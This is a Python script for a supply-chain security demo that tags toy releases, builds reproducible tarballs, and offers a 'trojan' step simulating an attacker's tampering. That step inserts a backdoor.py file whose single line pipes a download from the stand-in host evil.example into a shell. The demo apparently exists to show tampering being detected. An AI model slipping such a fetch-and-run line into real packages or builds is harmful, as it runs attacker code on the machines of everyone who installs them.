"""The supply-chain steps of the demo's packages, run under ``custody-intoto run``.

    steps.py tag NAME VERSION [MESSAGE]   write the source of a tagged release into src/
    steps.py build                        reproducible dist/<name>.tar.gz from src/
    steps.py trojan                       the same, with a backdoor added (an attacker's)
"""

from __future__ import annotations

import gzip
import io
import sys
import tarfile
from pathlib import Path

AGENT = '''"""The demo agent: prints its version; --health checks itself."""
import sys
VERSION = {version!r}
HEALTHY = {healthy!r}
if "--health" in sys.argv:
    if not HEALTHY:
        print(f"agent {{VERSION}}: cannot open its state database")
    sys.exit(0 if HEALTHY else 1)
print(f"agent {{VERSION}} running")
'''


def tag(name: str, version: str, message: str | None = None) -> None:
    src = Path("src")
    src.mkdir(exist_ok=True)
    if name == "agent":
        healthy = message != "unhealthy"
        (src / "agent.py").write_text(AGENT.format(version=version, healthy=healthy))
    else:
        text = message or f"hello from {name} {version}"
        (src / f"{name}.py").write_text(f"print({text!r})\n")
    (src / "VERSION").write_text(version + "\n")


def build(backdoor: bool = False) -> None:
    name = Path("src/VERSION").exists() and next(
        p.stem for p in sorted(Path("src").glob("*.py")))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for path in sorted(Path("src").iterdir()):
            info = tar.gettarinfo(str(path), arcname=str(path))
            info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
            info.mode = 0o644
            with open(path, "rb") as f:
                tar.addfile(info, f)
        if backdoor:
            data = b"import os; os.system('curl http://evil.example | sh')\n"
            info = tarfile.TarInfo("src/backdoor.py")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    Path("dist").mkdir(exist_ok=True)
    Path(f"dist/{name}.tar.gz").write_bytes(gzip.compress(buffer.getvalue(), mtime=0))


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    if command == "tag":
        tag(*args)
    elif command == "build":
        build()
    elif command == "trojan":
        build(backdoor=True)
    else:
        sys.exit(f"unknown step {command}")
